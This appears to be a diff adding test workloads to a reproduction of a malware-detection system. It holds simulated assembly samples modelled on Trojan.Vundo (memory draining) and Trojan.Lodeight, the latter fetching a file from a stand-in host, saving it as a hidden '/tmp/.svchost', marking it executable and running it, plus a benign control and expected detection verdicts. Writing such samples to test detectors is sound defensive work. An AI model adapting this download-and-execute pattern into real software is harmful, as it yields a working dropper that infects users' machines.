@@ -1,0 +1,155 @@
+"""Extension workloads for the section 10 future-work features.
+
+* ``vundo`` — a Trojan.Vundo-style memory drainer ("degrade Windows
+  performance by decreasing the amount of virtual memory available",
+  section 2.1) exercising the memory-abuse rules.
+* ``lodeight`` — a Trojan.Lodeight-style downloader ("connects to one of
+  two predefined websites and downloads a remote file and executes it")
+  exercising the executable-content download rule.
+* ``allocator`` — a benign program making modest allocations (control).
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:  # pragma: no cover - typing only
+    from repro.core.hth import HTH
+
+from typing import List
+
+from repro.core.report import Verdict
+from repro.kernel.network import ConversationPeer
+from repro.programs.base import Workload
+
+VUNDO_SOURCE = r"""
+; allocate far past the abuse threshold, in chunks, like an adware
+; component bloating the process
+main:
+    mov edi, 0
+alloc_loop:
+    cmp edi, 60
+    jge done
+    mov ebx, 4096
+    call malloc
+    add edi, 1
+    jmp alloc_loop
+done:
+    mov eax, 0
+    ret
+"""
+
+ALLOCATOR_SOURCE = r"""
+; a normal program: a handful of small allocations
+main:
+    mov edi, 0
+alloc_loop:
+    cmp edi, 4
+    jge done
+    mov ebx, 256
+    call malloc
+    add edi, 1
+    jmp alloc_loop
+done:
+    mov eax, 0
+    ret
+"""
+
+LODEIGHT_SOURCE = r"""
+; download an executable from a predefined host, save it to a hardcoded
+; path, mark it executable, and run it
+main:
+    mov ebx, host
+    call gethostbyname
+    mov ecx, eax
+    call socket
+    mov ebx, eax
+    mov edx, 8080
+    push ebx
+    call connect_addr
+    pop ebx
+    push ebx
+    mov ecx, buf
+    mov edx, 96
+    call read
+    mov edi, eax            ; downloaded byte count
+    pop ebx
+    call close
+    ; save the payload
+    mov ebx, dropfile
+    mov ecx, 0x241
+    call open
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, buf
+    mov edx, edi
+    call write
+    mov ebx, esi
+    call close
+    ; make it runnable and run it
+    mov ebx, dropfile
+    mov ecx, 0x1ed
+    call chmod
+    call fork
+    cmp eax, 0
+    jnz done
+    mov ebx, dropfile
+    mov ecx, 0
+    mov edx, 0
+    call execve
+    mov ebx, 1
+    call exit
+done:
+    mov eax, 0
+    ret
+.data
+host:     .asciz "update.lodeight.example"
+dropfile: .asciz "/tmp/.svchost"
+buf:      .space 96
+"""
+
+DOWNLOAD_HOST = "update.lodeight.example"
+#: What the "predefined website" serves: an executable image (the
+#: kernel's executable marker, like ELF's \x7fELF).
+EXECUTABLE_PAYLOAD = b"\x7fEXE-beagle-worm-payload-bytes"
+
+
+def _lodeight_setup(hth: HTH) -> None:
+    hth.network.add_peer(
+        DOWNLOAD_HOST,
+        8080,
+        lambda: ConversationPeer("c2", opening=EXECUTABLE_PAYLOAD),
+    )
+
+
+def extension_workloads() -> List[Workload]:
+    return [
+        Workload(
+            name="vundo",
+            program_path="/home/user/vundo",
+            source=VUNDO_SOURCE,
+            description="Trojan.Vundo-style memory drain (future work 4)",
+            expected_verdict=Verdict.MEDIUM,
+            expected_rules=("check_memory_abuse", "check_memory_usage"),
+        ),
+        Workload(
+            name="allocator",
+            program_path="/bin/allocator",
+            source=ALLOCATOR_SOURCE,
+            description="benign program with modest allocations",
+            expected_verdict=Verdict.BENIGN,
+        ),
+        Workload(
+            name="lodeight",
+            program_path="/home/user/lodeight",
+            source=LODEIGHT_SOURCE,
+            description="Trojan.Lodeight-style executable downloader "
+                        "(future work 5)",
+            setup=_lodeight_setup,
+            expected_verdict=Verdict.HIGH,
+            expected_rules=(
+                "check_executable_download",
+                "check_execve",
+            ),
+        ),
+    ]
